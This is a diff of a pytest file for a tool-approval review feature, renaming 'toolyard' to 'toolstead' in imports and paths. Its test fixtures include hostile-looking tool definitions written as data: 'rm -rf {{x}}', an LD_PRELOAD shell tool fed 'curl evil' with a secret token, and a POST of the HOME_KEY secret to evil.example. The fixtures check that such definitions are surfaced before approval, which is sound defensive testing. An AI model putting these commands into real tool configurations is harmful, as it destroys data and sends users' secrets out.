@@ -7,9 +7,9 @@ import json
 import pytest
 
 from tests.flows.tool_files import content, shell, tool
-from toolyard.app.trust.approvals import Approval, Pin, difference
-from toolyard.app.trust.review import LONGEST_LINE, MOST_DIFF_LINES, what_changed, what_would_run
-from toolyard.app.trust.snapshot import PinnedFile, Snapshot
+from toolstead.app.trust.approvals import Approval, Pin, difference
+from toolstead.app.trust.review import LONGEST_LINE, MOST_DIFF_LINES, what_changed, what_would_run
+from toolstead.app.trust.snapshot import PinnedFile, Snapshot
 
 pytestmark = pytest.mark.promise("R8")
 
@@ -35,7 +35,7 @@ def test_every_tool_is_shown_with_what_it_does_and_what_it_is_given() -> None:
         tool("odd", {"type": "strange"}),
         {"name": "bare"},
     ]
-    assert read(".toolyard/tools/a.json", content(*tools)) == [
+    assert read(".toolstead/tools/a.json", content(*tools)) == [
         "plain: runs  rm -rf {{x}}",
         'more: runs  sh; cwd sub; env {"LD_PRELOAD":"x","KEY":"${MY_TOKEN}"}; stdin curl evil; your secrets MY_TOKEN',
         'ask: asks  POST https://evil.example/{{x}}; headers {"a":"${HOME_KEY}"}; your secrets HOME_KEY',
@@ -47,7 +47,7 @@ def test_every_tool_is_shown_with_what_it_does_and_what_it_is_given() -> None:
 
 
 def test_settings_servers_plugins_agents_and_programs_are_shown() -> None:
-    assert read(".toolyard/config.toml", '[tools]\nallowed_hosts = ["localhost"]\n[plugins]\n') == [
+    assert read(".toolstead/config.toml", '[tools]\nallowed_hosts = ["localhost"]\n[plugins]\n') == [
         "sets  tools.allowed_hosts = ['localhost']",
         "sets  plugins = {}",
     ]
@@ -57,31 +57,31 @@ def test_settings_servers_plugins_agents_and_programs_are_shown() -> None:
         "MCP server b: connects to https://x",
         "MCP server c: neither a command nor an address",
     ]
-    assert read(".toolyard/plugins/p.py", "a\nb\n") == ["Python that would run inside Toolyard: 2 lines"]
+    assert read(".toolstead/plugins/p.py", "a\nb\n") == ["Python that would run inside Toolstead: 2 lines"]
     assert read(".claude/agents/a.md", "a") == ["an agent's instructions: 1 line"]
-    assert read(".toolyard/bin/p", b"\0ELF") == ["4 bytes"]
-    assert read(".toolyard/bin/p", b"\xff") == ["1 bytes"]
-    lines = list(what_would_run(of({"x": b""}, ".toolyard/link", programs=("x",))))
-    assert lines == ["x (a program)", "  0 lines", ".toolyard/link: no regular file; it is never read"]
+    assert read(".toolstead/bin/p", b"\0ELF") == ["4 bytes"]
+    assert read(".toolstead/bin/p", b"\xff") == ["1 bytes"]
+    lines = list(what_would_run(of({"x": b""}, ".toolstead/link", programs=("x",))))
+    assert lines == ["x (a program)", "  0 lines", ".toolstead/link: no regular file; it is never read"]
 
 
 ODD: dict[str, tuple[str, str | bytes]] = {
-    "no JSON": (".toolyard/tools/a.json", "{"),
-    "a list": (".toolyard/tools/a.json", "[]"),
-    "tools of text": (".toolyard/tools/a.json", '{"tools": "all"}'),
-    "a tool of text": (".toolyard/tools/a.json", '{"tools": ["all"]}'),
-    "deep JSON": (".toolyard/tools/a.json", "[" * 100_000),
-    "not UTF-8": (".toolyard/tools/a.json", b"\xff\xfe"),
-    "no TOML": (".toolyard/config.toml", "["),
-    "TOML not UTF-8": (".toolyard/config.toml", b"\xff"),
-    "a number of many digits": (".toolyard/config.toml", f"a = 0x{'f' * 9_000}"),
-    "deep TOML": (".toolyard/config.toml", f"{'.'.join('a' * 5_000)} = 1"),
+    "no JSON": (".toolstead/tools/a.json", "{"),
+    "a list": (".toolstead/tools/a.json", "[]"),
+    "tools of text": (".toolstead/tools/a.json", '{"tools": "all"}'),
+    "a tool of text": (".toolstead/tools/a.json", '{"tools": ["all"]}'),
+    "deep JSON": (".toolstead/tools/a.json", "[" * 100_000),
+    "not UTF-8": (".toolstead/tools/a.json", b"\xff\xfe"),
+    "no TOML": (".toolstead/config.toml", "["),
+    "TOML not UTF-8": (".toolstead/config.toml", b"\xff"),
+    "a number of many digits": (".toolstead/config.toml", f"a = 0x{'f' * 9_000}"),
+    "deep TOML": (".toolstead/config.toml", f"{'.'.join('a' * 5_000)} = 1"),
     "no servers": (".mcp.json", "[]"),
     "servers in a list": (".mcp.json", '{"mcpServers": []}'),
     "arguments of a number": (".mcp.json", '{"mcpServers": {"a": {"command": "x", "args": 5}}}'),
     "a command in a list": (".mcp.json", '{"mcpServers": {"a": {"command": ["x", "y"], "args": "abc"}}}'),
     "odd handlers": (
-        ".toolyard/tools/a.json",
+        ".toolstead/tools/a.json",
         '{"tools": [{"handler": {"type": "shell", "command": 1e999, "env": [1]}}]}',
     ),
 }
@@ -108,14 +108,14 @@ def _as_toml(text: str) -> str:
 def test_hidden_characters_and_terminal_codes_are_escaped_wherever_they_stand() -> None:
     servers = json.dumps({"mcpServers": {HIDDEN: {"command": HIDDEN}}})
     files = {
-        f".toolyard/{HIDDEN}": b"",
-        ".toolyard/tools/a.json": content(shell(HIDDEN, HIDDEN)).encode(),
+        f".toolstead/{HIDDEN}": b"",
+        ".toolstead/tools/a.json": content(shell(HIDDEN, HIDDEN)).encode(),
         ".mcp.json": servers.encode(),
-        ".toolyard/config.toml": f'"{_as_toml(HIDDEN)}" = 1'.encode(),
+        ".toolstead/config.toml": f'"{_as_toml(HIDDEN)}" = 1'.encode(),
     }
-    lines = list(what_would_run(of(files, f".toolyard/link{HIDDEN}", ".toolyard/\udcff")))
+    lines = list(what_would_run(of(files, f".toolstead/link{HIDDEN}", ".toolstead/\udcff")))
     assert sum(line.count(SHOWN) for line in lines) == 7
-    assert r".toolyard/\u{dcff}: no regular file; it is never read" in lines
+    assert r".toolstead/\u{dcff}: no regular file; it is never read" in lines
     assert all(line.isprintable() for line in lines)
     now = of({f"x{HIDDEN}": f"{HIDDEN}\r\n".encode()})
     changed = list(what_changed({}, now, difference(None, now)))
@@ -124,12 +124,12 @@ def test_hidden_characters_and_terminal_codes_are_escaped_wherever_they_stand() 
 
 
 def test_long_lines_many_tools_and_many_settings_are_cut_and_counted() -> None:
-    (line,) = read(".toolyard/tools/a.json", content(shell("a", "x" * 5_000)))
+    (line,) = read(".toolstead/tools/a.json", content(shell("a", "x" * 5_000)))
     assert len(line) < LONGEST_LINE + 30
     assert line.endswith("… (4,509 more)")
-    lines = read(".toolyard/tools/a.json", content(*(shell(f"t{number}", "true") for number in range(45))))
+    lines = read(".toolstead/tools/a.json", content(*(shell(f"t{number}", "true") for number in range(45))))
     assert (len(lines), lines[-1]) == (41, "and 5 tools more; look at the file itself")
-    lines = read(".toolyard/config.toml", "\n".join(f"a{number} = 1" for number in range(5_000)))
+    lines = read(".toolstead/config.toml", "\n".join(f"a{number} = 1" for number in range(5_000)))
     assert (len(lines), lines[-1]) == (201, "… more than 200 lines; look at the file itself")
 
 
